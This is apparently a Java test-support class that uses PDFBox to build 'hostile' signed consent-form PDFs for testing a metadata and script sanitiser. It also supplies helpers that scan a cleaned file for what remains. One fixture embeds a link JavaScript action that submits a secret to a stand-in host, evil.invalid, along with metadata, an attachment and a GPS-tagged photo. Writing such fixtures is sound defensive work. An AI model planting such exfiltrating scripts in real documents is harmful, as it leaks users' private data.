package org.kidsafe.testsupport;

import org.apache.pdfbox.Loader;
import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSBase;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSObject;
import org.apache.pdfbox.cos.COSStream;
import org.apache.pdfbox.cos.COSString;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentInformation;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.common.PDMetadata;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.font.PDType1Font;
import org.apache.pdfbox.pdmodel.font.Standard14Fonts;
import org.apache.pdfbox.pdmodel.graphics.image.JPEGFactory;
import org.apache.pdfbox.pdmodel.graphics.image.PDImageXObject;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationFileAttachment;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
import org.apache.pdfbox.pdmodel.common.PDRectangle;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayDeque;
import java.util.Collections;
import java.util.Deque;
import java.util.IdentityHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;

/**
 * Signed consent forms as a hostile or careless client sends them (issue 18 item 2): a PDF whose document information,
 * XMP metadata, attached file, scripts (an open action and a link) and embedded phone photo (Exif GPS) all carry
 * {@link HostileImages#SECRET}; and what tests look for in a cleaned one. Built with PDFBox's document API, so they do not
 * depend on the sanitiser under test.
 */
public final class HostilePdfs {

    /** The text of the form itself, which cleaning must keep. */
    public static final String FORM_TEXT = "I consent. Signed by the parent.";
    /** Keys that hold metadata, an attachment or something that runs. */
    private static final Set<String> ACTIVE_OR_METADATA = Set.of("Info", "Metadata", "JS", "JavaScript", "OpenAction", "AA", "A",
            "EmbeddedFiles", "EmbeddedFile", "EF", "XFA");

    private HostilePdfs() {
    }

    /** A plain one-page form: the text only. */
    public static byte[] plain() {
        return build(false);
    }

    /** The same form with every kind of metadata, attachment and script, and a photo with GPS on the page. */
    public static byte[] withMetadataAttachmentsAndScripts() {
        return build(true);
    }

    private static byte[] build(boolean hostile) {
        try (PDDocument document = new PDDocument()) {
            PDPage page = new PDPage(PDRectangle.A4);
            document.addPage(page);
            PDImageXObject photo = hostile ? JPEGFactory.createFromByteArray(document,
                    HostileImages.jpegWithGps(HostileImages.noise(32, 24, 7))) : null;
            try (PDPageContentStream content = new PDPageContentStream(document, page)) {
                content.beginText();
                content.setFont(new PDType1Font(Standard14Fonts.FontName.HELVETICA), 12);
                content.newLineAtOffset(72, 700);
                content.showText(FORM_TEXT);
                content.endText();
                if (photo != null) {
                    content.drawImage(photo, 72, 500, 64, 48);
                }
            }
            if (hostile) {
                addMetadataAttachmentsAndScripts(document, page);
            }
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            document.save(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static void addMetadataAttachmentsAndScripts(PDDocument document, PDPage page) throws IOException {
        PDDocumentInformation info = document.getDocumentInformation();
        info.setAuthor(HostileImages.SECRET);
        info.setCreator(HostileImages.SECRET);
        PDMetadata xmp = new PDMetadata(document, new ByteArrayInputStream((
                "<x:xmpmeta xmlns:x=\"adobe:ns:meta/\"><rdf:RDF xmlns:rdf=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\">"
                        + "<rdf:Description xmlns:dc=\"http://purl.org/dc/elements/1.1/\" dc:creator=\"" + HostileImages.SECRET + "\"/>"
                        + "</rdf:RDF></x:xmpmeta>").getBytes(StandardCharsets.UTF_8)));
        document.getDocumentCatalog().setMetadata(xmp);

        PDComplexFileSpecification attachment = new PDComplexFileSpecification();
        attachment.setFile("home-address.txt");
        PDEmbeddedFile file = new PDEmbeddedFile(document, new ByteArrayInputStream(
                ("Home: " + HostileImages.SECRET).getBytes(StandardCharsets.US_ASCII)));
        file.setSubtype("text/plain");
        attachment.setEmbeddedFile(file);
        PDEmbeddedFilesNameTreeNode files = new PDEmbeddedFilesNameTreeNode();
        files.setNames(Map.of("home-address.txt", attachment));
        PDDocumentNameDictionary names = new PDDocumentNameDictionary(document.getDocumentCatalog());
        names.setEmbeddedFiles(files);
        document.getDocumentCatalog().setNames(names);

        PDAnnotationFileAttachment attached = new PDAnnotationFileAttachment();
        attached.setFile(attachment);
        attached.setRectangle(new PDRectangle(10, 10, 20, 20));
        PDAnnotationLink link = new PDAnnotationLink();
        link.setRectangle(new PDRectangle(72, 690, 200, 20));
        link.setAction(new PDActionJavaScript("this.submitForm('https://evil.invalid/?" + HostileImages.SECRET + "')"));
        page.getAnnotations().add(attached);
        page.getAnnotations().add(link);

        document.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.alert('" + HostileImages.SECRET + "')"));
    }

    /**
     * Every string, name and (decoded) stream reachable in the document, as text: what a reader of the file could
     * find. Image streams are given raw, so a JPEG's Exif stays visible.
     */
    public static String everything(byte[] pdf) {
        StringBuilder text = new StringBuilder();
        walk(pdf, (key, item) -> {
            if (key != null) {
                text.append(key).append(' ');
            }
            if (item instanceof COSString string) {
                text.append(string.getString()).append(' ');
            } else if (item instanceof COSName name) {
                text.append(name.getName()).append(' ');
            } else if (item instanceof COSStream stream) {
                text.append(new String(streamBytes(stream), StandardCharsets.ISO_8859_1)).append(' ');
            }
        });
        return text.toString();
    }

    /** The keys anywhere in the document (the trailer's Info included) that hold metadata, an attachment or a script. */
    public static Set<String> activeOrMetadataKeys(byte[] pdf) {
        Set<String> found = new TreeSet<>();
        walk(pdf, (key, item) -> {
            if (key != null && ACTIVE_OR_METADATA.contains(key)) {
                found.add(key);
            }
        });
        return found;
    }

    /** The raw bytes of every image on the pages (a JPEG is its file). */
    public static List<byte[]> rawImages(byte[] pdf) {
        List<byte[]> images = new java.util.ArrayList<>();
        walk(pdf, (key, item) -> {
            if (item instanceof COSStream stream && COSName.IMAGE.equals(stream.getCOSName(COSName.SUBTYPE))) {
                try (InputStream raw = stream.createRawInputStream()) {
                    images.add(raw.readAllBytes());
                } catch (IOException e) {
                    throw new UncheckedIOException(e);
                }
            }
        });
        return images;
    }

    private interface Visitor {
        void visit(String key, COSBase item);
    }

    private static void walk(byte[] pdf, Visitor visitor) {
        try (PDDocument document = Loader.loadPDF(pdf)) {
            Set<COSBase> seen = Collections.newSetFromMap(new IdentityHashMap<>());
            Deque<Map.Entry<String, COSBase>> todo = new ArrayDeque<>();
            todo.push(new java.util.AbstractMap.SimpleEntry<>(null, document.getDocument().getTrailer()));
            while (!todo.isEmpty()) {
                Map.Entry<String, COSBase> next = todo.pop();
                COSBase item = next.getValue() instanceof COSObject reference ? reference.getObject() : next.getValue();
                if (item == null || !seen.add(item)) {
                    continue;
                }
                visitor.visit(next.getKey(), item);
                if (item instanceof COSDictionary dictionary) {
                    for (Map.Entry<COSName, COSBase> entry : dictionary.entrySet()) {
                        todo.push(new java.util.AbstractMap.SimpleEntry<>(entry.getKey().getName(), entry.getValue()));
                    }
                } else if (item instanceof COSArray array) {
                    for (COSBase element : array) {
                        todo.push(new java.util.AbstractMap.SimpleEntry<>(null, element));
                    }
                }
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static byte[] streamBytes(COSStream stream) {
        boolean image = COSName.IMAGE.equals(stream.getCOSName(COSName.SUBTYPE));
        try (InputStream in = image ? stream.createRawInputStream() : stream.createInputStream()) {
            return in.readAllBytes();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
